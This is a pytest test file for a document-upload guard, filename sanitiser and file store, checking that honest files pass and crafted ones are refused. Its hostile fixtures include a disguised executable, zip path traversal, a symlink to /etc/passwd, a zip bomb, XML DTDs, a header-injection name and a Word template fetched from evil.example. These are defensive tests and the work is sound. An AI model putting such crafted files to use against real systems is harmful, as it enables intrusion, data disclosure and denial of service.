from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
from datetime import UTC, datetime, timedelta

import pytest

from tracker.core.errors import BadInput, NotVisible
from tracker.core.files.guard import KINDS, inspect_upload
from tracker.core.files.names import (
    clean_filename,
    content_disposition,
    download_headers,
    extension_of,
)
from tracker.core.files.store import FileStore

MB = 1024 * 1024
CONTENT = b'<?xml version="1.0"?><Types xmlns="x"/>'
BOOK = {"[Content_Types].xml": CONTENT, "xl/workbook.xml": b"<workbook/>"}
WORD = {"[Content_Types].xml": CONTENT, "word/document.xml": b"<document/>"}
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\0" * 17 + b"\x00\x00\x00\x00IEND\xaeB`\x82"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zipped(entries, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def relationships(attributes):
    return b"<Relationships><Relationship " + attributes + b"/></Relationships>"


def look(name, data, **kw):
    return inspect_upload(name, io.BytesIO(data), **kw)


# ---------------------------------------------------------------- guard


GOOD = {
    "笔录.pdf": b"%PDF-1.7\n1 0 obj\nendobj\nstartxref\n9\n%%EOF\n",
    "现场.jpg": b"\xff\xd8\xff\xe0" + b"x" * 100 + b"\xff\xd9",
    "现场.JPEG": b"\xff\xd8\xff\xe1" + b"x" * 100 + b"\xff\xd9",
    "截图.png": PNG,
    "台账.xlsx": zipped(BOOK),
    "台账.xls": OLE + b"\0" * 600 + "Workbook".encode("utf-16-le") + b"\0" * 600,
    "说明.docx": zipped(WORD),
    "名单.csv": "单位,数\n某厂,12\n".encode("gb18030"),
    "备注.txt": "\ufeff一段话\r\n".encode(),
    "文书.ofd": zipped({"OFD.xml": b"<OFD/>", "Doc_0/Document.xml": b"<D/>"}),
    "证据.zip": zipped({"一.pdf": b"%PDF-1.4", "图/二.png": PNG}),
    "录音.mp3": b"ID3\x03\x00" + b"x" * 100,
    "录音2.mp3": b"\xff\xfb\x90\x00" + b"x" * 100,
    "录音.wav": b"RIFF\x24\0\0\0WAVEfmt ",
    "录像.mp4": b"\0\0\0\x18ftypmp42",
    "链接.docx": zipped(
        WORD
        | {
            "word/_rels/document.xml.rels": relationships(
                b'Id="r1" Type="http://x/relationships/hyperlink" '
                b'Target="https://stats.example/a" TargetMode="External"'
            )
        }
    ),
    # Equal cells compress a hundredfold and more; small enough, they are honest.
    "等值.xlsx": zipped(BOOK | {"xl/worksheets/sheet1.xml": b"<c><v>1</v></c>" * 400_000}),
}


@pytest.mark.parametrize("name", GOOD)
def test_honest_files_pass(name):
    stream = io.BytesIO(GOOD[name])
    kind = inspect_upload(name, stream)
    assert kind.extension == name.rsplit(".")[-1].lower()
    assert stream.tell() == 0


def test_every_kind_has_an_honest_example():
    assert {extension_of(name) for name in GOOD} == set(KINDS)


def a_symlink():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("一.txt")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def overlapping():
    """Two entries of the table that point at the same bytes."""
    data = bytearray(zipped({"a.txt": b"x" * 50, "b.txt": b"x" * 50}, zipfile.ZIP_STORED))
    second = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, second + 42, 0)
    return bytes(data)


def encrypted():
    data = bytearray(zipped({"a.txt": b"secret"}))
    struct.pack_into("<H", data, 6, 1)
    struct.pack_into("<H", data, data.index(b"PK\x01\x02") + 8, 1)
    return bytes(data)


def lying_about_size():
    data = bytearray(zipped(BOOK | {"xl/big.xml": b"<a>" + b" " * (30 * MB)}))
    at = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 1000)
    return bytes(data)


def renamed(old, new):
    return zipped({old: b"text"}).replace(old.encode(), new.encode())


HOSTILE = {
    "empty": ("a.pdf", b""),
    "exe as pdf": ("a.pdf", b"MZ" + b"\0" * 100),
    "html as png": ("a.png", b"<html><script>1</script>"),
    "svg": ("a.svg", b"<svg onload='x'/>"),
    "html": ("a.html", b"<p>"),
    "macro book": ("a.xlsm", zipped(BOOK)),
    "two extensions": ("a.pdf.exe", GOOD["笔录.pdf"]),
    "no extension": ("pdf", GOOD["笔录.pdf"]),
    "cut pdf": ("a.pdf", b"%PDF-1.7\n1 0 obj"),
    "cut png": ("a.png", PNG[:30]),
    "zip as xlsx": ("a.xlsx", zipped({"a.txt": b"x"})),
    "docx as xlsx": ("a.xlsx", zipped(WORD)),
    "xlsx as xls": ("a.xls", zipped(BOOK)),
    "word as xls": ("a.xls", OLE + b"\0" * 600 + "WordDocument".encode("utf-16-le")),
    "macro xls": (
        "a.xls",
        GOOD["台账.xls"] + "_VBA_PROJECT".encode("utf-16-le"),
    ),
    "vba in xlsx": ("a.xlsx", zipped(BOOK | {"xl/vbaProject.bin": b"x"})),
    "vba declared": (
        "a.docx",
        zipped(WORD | {"[Content_Types].xml": b"<Types t='macroEnabled.main+xml'/>"}),
    ),
    "embedded object": ("a.docx", zipped(WORD | {"word/embeddings/oleObject1.bin": b"x"})),
    "ole under another name": ("a.docx", zipped(WORD | {"word/media/image1.png": OLE})),
    "nested zip": ("a.zip", zipped({"b.pdf": zipped({"c.txt": b"x"})})),
    "nested by name": ("a.zip", zipped({"b.zip": b"x"})),
    "exe in zip": ("a.zip", zipped({"b.exe": b"MZ"})),
    "script in zip": ("a.zip", zipped({"b.js": b"1"})),
    "dotdot": ("a.zip", renamed("xx/a.txt", "../a.txt")),
    "absolute": ("a.zip", renamed("xetc.txt", "/etc.txt")),
    "drive": ("a.zip", renamed("Cx/a.txt", "C:/a.txt")),
    "backslash": ("a.zip", renamed("xx/a.txt", "..\\a.txt")),
    "symlink": ("a.zip", a_symlink()),
    "overlap": ("a.zip", overlapping()),
    "encrypted": ("a.zip", encrypted()),
    "lying": ("a.xlsx", lying_about_size()),
    "empty zip": ("a.zip", zipped({})),
    "cut zip": ("a.zip", GOOD["证据.zip"][:-30]),
    "many entries": ("a.zip", zipped({f"{n}.txt": b"" for n in range(2001)})),
    "bomb": ("a.xlsx", zipped(BOOK | {"xl/a.xml": b"<a>" + b"0" * (20 * MB)})),
    "dtd": ("a.xlsx", zipped(BOOK | {"xl/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"})),
    "dtd far in": (
        "a.xlsx",
        zipped(BOOK | {"xl/a.xml": b"<!--" + b"x" * 65530 + b"--><!DOCTYPE a><a/>"}),
    ),
    "dtd in utf-16": (
        "a.xlsx",
        zipped(BOOK | {"xl/a.xml": "<!DOCTYPE a><a/>".encode("utf-16")}),
    ),
    "dtd in utf-16 without mark": (
        "a.xlsx",
        zipped(BOOK | {"xl/a.xml": "<!DOCTYPE a><a/>".encode("utf-16-le")}),
    ),
    "template from outside": (
        "a.docx",
        zipped(
            WORD
            | {
                "word/_rels/settings.xml.rels": relationships(
                    b'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" '
                    b"TargetMode = 'External'"
                )
            }
        ),
    ),
    "link to a share": (
        "a.docx",
        zipped(
            WORD
            | {
                "word/_rels/document.xml.rels": relationships(
                    b'Type="http://x/hyperlink" Target="file://server/x" TargetMode="External"'
                )
            }
        ),
    ),
    "binary csv": ("a.csv", bytes(range(256))),
    "nul text": ("a.txt", b"a\0b"),
    "text as mp3": ("a.mp3", b"hello there"),
    "avi as wav": ("a.wav", b"RIFF\0\0\0\0AVI LIST"),
    "too large": ("a.txt", b"x" * (10 * MB + 1)),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_files_do_not(what):
    name, data = HOSTILE[what]
    with pytest.raises(BadInput) as refused:
        look(name, data)
    assert f"“{name}”" in str(refused.value.message)


def test_random_damage_never_raises_anything_else():
    draw = random.Random(5)  # noqa: S311 - repeatable
    for name in ("台账.xlsx", "证据.zip", "文书.ofd", "台账.xls"):
        for _ in range(60):
            data = bytearray(GOOD[name])
            for _ in range(draw.randint(1, 8)):
                data[draw.randrange(len(data))] = draw.randrange(256)
            try:
                look(name, bytes(data))
            except BadInput:
                continue


def test_a_field_may_take_less():
    look("a.pdf", GOOD["笔录.pdf"], allowed=frozenset({"pdf"}))
    with pytest.raises(BadInput, match="evidence") as refused:
        look("a.png", PNG, allowed=frozenset({"pdf", "exe"}), field="evidence")
    assert str(refused.value.message).endswith("可以传：pdf")


# ---------------------------------------------------------------- names


def test_traversal_names_are_only_words():
    draw = random.Random(9)  # noqa: S311 - repeatable
    pieces = [
        "../",
        "..\\",
        "/",
        "\\",
        "..",
        ".",
        "C:",
        "\0",
        "\u202e",
        "etc",
        "passwd",
        "%2e",
        "a",
    ]
    for _ in range(400):
        name = clean_filename("".join(draw.choices(pieces, k=6)) + ".pdf")
        assert name
        assert not set(name) & set("/\\\0:\u202e")
        assert name not in (".", "..")
        assert not name.startswith(".")


def test_names_keep_what_people_wrote():
    assert clean_filename("C:\\桌面\\询问笔录 (2).pdf") == "询问笔录 (2).pdf"
    assert clean_filename("") == "附件"
    assert clean_filename("..") == "附件"
    long = clean_filename("长" * 300 + ".pdf")
    assert len(long) == 120
    assert long.endswith(".pdf")
    assert extension_of("a.PDF") == "pdf"
    assert extension_of(".pdf") == ""


def test_the_header_carries_any_name_safely():
    header = content_disposition('笔录";x=1\r\nSet-Cookie: a=b.pdf')
    assert "\r" not in header
    assert "\n" not in header
    assert header.count('"') == 2
    assert "filename*=UTF-8''%E7%AC%94%E5%BD%95" in header
    header.encode("ascii")
    assert "sandbox" in download_headers("a.pdf", "application/pdf")["Content-Security-Policy"]


# ---------------------------------------------------------------- store


@pytest.fixture
def store(tmp_path):
    return FileStore(tmp_path / "files")


def test_what_goes_in_comes_out(store):
    kept = store.save(io.BytesIO(b"hello" * 100_000), limit=MB)
    with store.open(kept.id) as handle:
        assert handle.read() == b"hello" * 100_000
    assert kept.size == 500_000
    assert store.is_intact(kept.id, kept.sha256)
    assert store.save(io.BytesIO(b"hello" * 100_000), limit=MB).id != kept.id


def test_a_changed_byte_shows(store, tmp_path):
    kept = store.save(io.BytesIO(b"hello"), limit=MB)
    next(tmp_path.rglob(kept.id)).write_bytes(b"hellp")
    assert not store.is_intact(kept.id, kept.sha256)


def test_too_much_leaves_nothing(store, tmp_path):
    with pytest.raises(BadInput, match="录像"):
        store.save(io.BytesIO(b"x" * (MB + 1)), limit=MB, name="录像.mp4")
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


@pytest.mark.parametrize("stored_id", ["", "../x", "a" * 31, "A" * 32, "/etc/passwd", "0" * 32])
def test_an_unknown_id_is_not_visible(store, stored_id):
    with pytest.raises(NotVisible):
        store.open(stored_id)


def test_destroyed_content_is_gone(store, tmp_path):
    kept = store.save(io.BytesIO(b"canary" * 1000), limit=MB)
    other = tmp_path / "link"
    other.hardlink_to(next(tmp_path.rglob(kept.id)))
    store.destroy(kept.id)
    store.destroy(kept.id)
    with pytest.raises(NotVisible):
        store.open(kept.id)
    assert b"canary" not in other.read_bytes()


def test_orphans_are_found_after_a_while(store):
    known = store.save(io.BytesIO(b"a"), limit=MB)
    lost = store.save(io.BytesIO(b"b"), limit=MB)
    now = datetime.now(UTC)  # file times are the real clock's
    assert store.orphans({known.id}, now - timedelta(hours=1)) == []
    assert store.orphans({known.id}, now + timedelta(hours=1)) == [lost.id]
